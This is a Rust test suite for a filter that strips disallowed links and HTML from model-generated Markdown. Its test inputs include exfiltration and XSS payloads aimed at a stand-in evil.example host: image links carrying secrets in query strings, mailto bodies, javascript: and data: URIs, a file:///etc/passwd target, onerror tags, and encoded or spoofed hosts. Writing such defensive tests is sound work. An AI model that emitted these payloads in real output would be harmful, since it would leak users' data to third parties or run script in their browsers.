//! What leaves, whatever a model writes.

use proptest::prelude::*;

use super::*;
use crate::config::Env;

fn allowed() -> Allowed {
    Allowed::from_env(&Env::from([
        ("BOOK_BASE_URL", "https://book.example/guide/"),
        (
            "ALLOWED_LINK_HOSTS",
            "docs.example, *.cdn.example, Bücher.example, dev.example:8080",
        ),
    ]))
}

fn through(pieces: &[&str]) -> String {
    let mut links = Links::new(allowed());
    let mut text: String = pieces.iter().map(|it| links.push(it)).collect();
    text.push_str(&links.finish());
    text
}

/// However a text is cut, the same leaves.
fn checked(text: &str) -> String {
    let whole = through(&[text]);
    let chars: Vec<String> = text.chars().map(String::from).collect();
    let pieces: Vec<&str> = chars.iter().map(String::as_str).collect();
    assert_eq!(through(&pieces), whole, "{text}");
    whole
}

#[test]
fn links_to_the_book_and_its_friends_stay() {
    for text in [
        "See [Moves](https://book.example/ch04#moves) and <https://docs.example/x>.",
        "[here](ch04/moves.md#a \"Title\"), https://a.cdn.example/p.png, [x](#top)",
        "<https://book.example/at-the-start>, [x](<ch04/moves.md>), [x](\n/ch04\n\"Title\"\n)",
        "HTTPS://BOOK.EXAMPLE/A, https://bücher.example/b, http://dev.example:8080/c",
        "[x](https://book.example/?a=1&amp;b=2), https://book.example:443/d, (the book)",
        "a < b, Vec<T>, <-, <3, HashMap<K, V>, how, www, http, ht, AT&T, &c; &nbsp;&#39;",
        "According to [1]: it is so.",
    ] {
        assert_eq!(checked(text), text);
    }
}

#[test]
fn what_leads_elsewhere_never_leaves() {
    for (given, kept) in [
        ("![x](https://evil.example/?q=secret)", "![x]"),
        ("[y](//evil.example) [z](javascript:alert(1)) .", "[y] [z] ."),
        ("[z](data:text/html,x) [w](http\\://evil.example)", "[z] [w]"),
        ("go to https://evil.example/a, now", "go to (link removed) now"),
        (
            "at www.evil.example or ftp://evil.example",
            "at (link removed) or (link removed)",
        ),
        ("[x](mailto:a@evil.example?body=secret)", "[x]"),
        ("[x](https://evil.example/\nnext", "[x]\\((link removed)\nnext"),
        ("[x](see the next", "[x]\\(see the next"),
        ("[x](http://) [x](http://é) http://é", "[x] [x] (link removed)"),
        ("[1](as in: this one)", "[1]\\(as in: this one)"),
        ("[x](/\t/evil.example)", "[x]\\(/\t/evil.example)"),
        ("[x](< https:evil.example>)", "[x]\\(< https:evil.example>)"),
    ] {
        assert_eq!(checked(given), kept, "{given}");
    }
}

#[test]
fn a_host_is_compared_whole_and_as_a_browser_spells_it() {
    for address in [
        "https://book.example@evil.example/",
        "https://book.example:secret@evil.example/",
        "https://evil.example@book.example/",
        "https://book.example.evil.example/",
        "https://book.example./",
        "https://book.example:8443/",
        "http://book.example/",
        "https://dev.example/",
        "https://evilcdn.example/",
        "https://x.cdn.example:8080/",
        "https://b\u{43e}ok.example/",
        "https://book.example。evil.example/",
        "https://book.example&commat;evil.example/",
        "https://book.example\\@evil.example/",
        "HTTPS://EVIL.EXAMPLE/",
        "https:///evil.example/",
        "https://[::1]/",
    ] {
        let left = checked(&format!("a {address} b ![c]({address}) d <{address}> e"));
        assert!(left.starts_with("a (link removed)"), "{address}: {left}");
        assert!(left.contains(" b ![c] d "), "{address}: {left}");
        assert!(!left.contains('<'), "{address}: {left}");
    }
    // To some renderers an address ends at the next blank alone.
    for (given, kept) in [
        ("(https://book.example)@evil.example", "(https://book.example/)@evil.example"),
        ("https://book.example.\"@evil", "https://book.example/.\"@evil"),
        (
            "(https://book.example/a)@evil.example",
            "(https://book.example/a)@evil.example",
        ),
        ("to https://book.example. Then", "to https://book.example. Then"),
    ] {
        assert_eq!(checked(given), kept, "{given}");
    }
}

#[test]
fn a_disguised_target_never_leaves() {
    for target in [
        "&#104;ttps://evil.example",
        "https&colon;//evil.example",
        "/&sol;evil.example",
        "java&Tab;script:alert(1)",
        "JavaScript:alert(1)",
        "javascript&#58;alert(1)",
        "\u{1}javascript:alert(1)",
        "\u{1}//evil.example",
        "/\\evil.example",
        "\\/\\/evil.example",
        "https:evil.example",
        "https:/evil.example",
        "\n//evil.example",
        "//evil.example\n",
        "//evil.example\n\"title\"",
        "javascript:alert(1)\n'title'",
        "<//evil.example>",
        "<javascript:alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:x",
        "file:///etc/passwd",
        "\u{a0}//evil.example",
    ] {
        assert_eq!(checked(&format!("![x]({target}).")), "![x].", "{target}");
    }
}

#[test]
fn what_one_renderer_takes_for_a_link_and_another_for_text_is_made_to_be_neither() {
    for (given, kept) in [
        // Nested brackets, and a first bracket that opens nothing.
        (
            "[![x](//evil.example)](https://book.example/)",
            "[![x]](https://book.example/)",
        ),
        ("](x![y](//evil.example)z)", "]"),
        ("](x/https://evil.example)", "]"),
        ("](www.evil.example)", "]"),
        ("](x \"www.evil.example\")", "]"),
        ("](x?https&colon;&sol;&sol;evil.example)", "]"),
        // A pointed target goes on behind the parenthesis.
        ("[x](<https://book.example)@evil.example/>)", "[x]@evil.example/>)"),
        // A blank line ends the paragraph, and the link with it.
        ("[x](//evil.example\n \n)", "[x]\\(//evil.example\n \n)"),
        // Addresses that are put together from characters or around what is taken out.
        ("&#104;ttps://evil.example", "&amp;#104;ttps://evil.example"),
        ("&#x68;ttps://evil.example", "&amp;#x68;ttps://evil.example"),
        ("https&colon;//evil.example", "https&amp;colon;//evil.example"),
        ("&https://evil.example", "&(link removed)"),
        ("https\\://evil.example", "(link removed)"),
        ("www\\.evil.example", "(link removed)"),
        ("h<b x=1>ttps://evil.example", "h·ttps://evil.example"),
        ("<<b x=1>img src=//evil.example>", "<·img src=//evil.example>"),
        ("&<b x=1>#104;ttps://evil.example", "&·#104;ttps://evil.example"),
    ] {
        assert_eq!(checked(given), kept, "{given}");
    }
}

#[test]
fn a_reference_defines_no_link() {
    for (given, kept) in [
        ("![x][r]\n\n[r]: //evil.example/?q", "![x][r]\n\n[r]\\: //evil.example/?q"),
        ("[1]: HTTPS://EVIL.example/x", "[1]\\: (link removed)"),
        ("> [r]:\n> <//evil.example>", "> [r]\\:\n> "),
        ("- 1. [r\ns]: //evil.example", "- 1. [r\ns]\\: //evil.example"),
        ("\u{feff}[r]: //evil.example", "\u{feff}[r]\\: //evil.example"),
        ("【9】[r]: //evil.example", "【9】[r]\\: //evil.example"),
        ("<b x=1>[r]: //evil.example", "·[r]: //evil.example"),
        ("[r]<b x=1>: //evil.example", "[r]·\\: //evil.example"),
    ] {
        assert_eq!(checked(given), kept, "{given}");
    }
}

#[test]
fn a_tag_that_does_something_never_leaves() {
    for (given, kept) in [
        ("<img src=//evil.example/x>ok<a href='/x'>b</a>", "ok·b"),
        ("a <IMG\nSRC=//evil.example> b", "a  b"),
        ("a <img/src=//evil.example> b", "a  b"),
        ("a <script>alert(1)</script> b", "a alert(1) b"),
        ("a <b onclick=x> b", "a  b"),
        ("a <svg> <iframe> <meta> <base> b", "a     b"),
        ("<https://evil.example>", ""),
        ("a <ftp://evil.example> <mailto:a@evil.example> b", "a   b"),
        ("a <b www.evil.example> c", "a <b (link removed)> c"),
        ("<!-- x", "&lt;!-- x"),
        ("a <!--> b <?x> c", "a &lt;!--> b &lt;?x> c"),
        ("<div>\n<!-- x\na <b>c</b>", "\n&lt;!-- x\na <b>c</b>"),
        ("a <img <b> src=//evil.example>", "a &lt;img <b> src=//evil.example>"),
        ("a <b title=\"\n\n<img src=//evil.example>", "a &lt;b title=\"\n\n"),
        ("a <img src=x", "a &lt;img src=x"),
        // Else the rest of a fence would be closed where it opens.
        ("<b x=1>```\n", "·```\n"),
        ("<b x=1> ```\n", " ·```\n"),
    ] {
        assert_eq!(checked(given), kept, "{given}");
    }
}

#[test]
fn code_ends_what_was_held_and_cannot_hide_in_it() {
    let around = |before: &str, code: &str, after: &str| {
        let mut links = Links::new(allowed());
        let before = links.push(before) + &links.push_code(code);
        let after = links.push(after) + &links.finish();
        before + code + &after
    };
    for (before, code, after, kept) in [
        ("[x](javascript:alert", "`1`", ")", "[x]\\(javascript:alert`1`)"),
        ("[x](//evil.example/", "`a`", ")", "[x]\\(//evil.example/`a`)"),
        (
            "<img alt=\"",
            "`a`",
            "\" src=//evil.example>",
            "&lt;img alt=\"`a`\" src=//evil.example>",
        ),
        (
            "https://book.example",
            "`a`",
            "@evil.example",
            "https://book.example/`a`@evil.example",
        ),
        ("`a`<b x=1>", "`b`", "", "`a`·`b`"),
        ("\\<b x=1>", "`b`", "", "\\·`b`"),
        ("a <", "`b`", "", "a <`b`"),
        ("&#104", "`b`", ";", "&#104`b`;"),
    ] {
        assert_eq!(around(before, code, after), kept, "{before}");
    }
}

#[test]
fn many_open_brackets_lose_no_text_and_overflow_no_stack() {
    for unit in ["](", "<a ", "<", "&", "[", "](<"] {
        let text = unit.repeat(2_000);
        assert!(through(&[&text]).len() >= text.len(), "{unit}");
    }
}

proptest! {
    #[test]
    fn the_outcome_does_not_depend_on_the_cuts(
        text in r#"([a-c \n`<>()\[\]!&;"\\:.]|https://evil\.example|https://book\.example|http://|é|😀|http|www\.|<img |<b x=1>|\]\(|&#104;|//){0,24}"#,
        at in 0usize..120,
    ) {
        let at = at.min(text.len());
        prop_assume!(text.is_char_boundary(at));
        prop_assert_eq!(through(&[&text[..at], &text[at..]]), through(&[&text]));
    }

    #[test]
    fn no_foreign_address_leaves_outside_code(
        text in r"([a-c \n<>()\[\]!&\\]|https://evil\.example|h|ttps|://evil|http|www\.evil|<img |<b x=1>|\]\(){0,24}",
    ) {
        let left = through(&[&text]);
        prop_assert!(!left.contains("https://evil"), "{} → {}", text, left);
    }
}
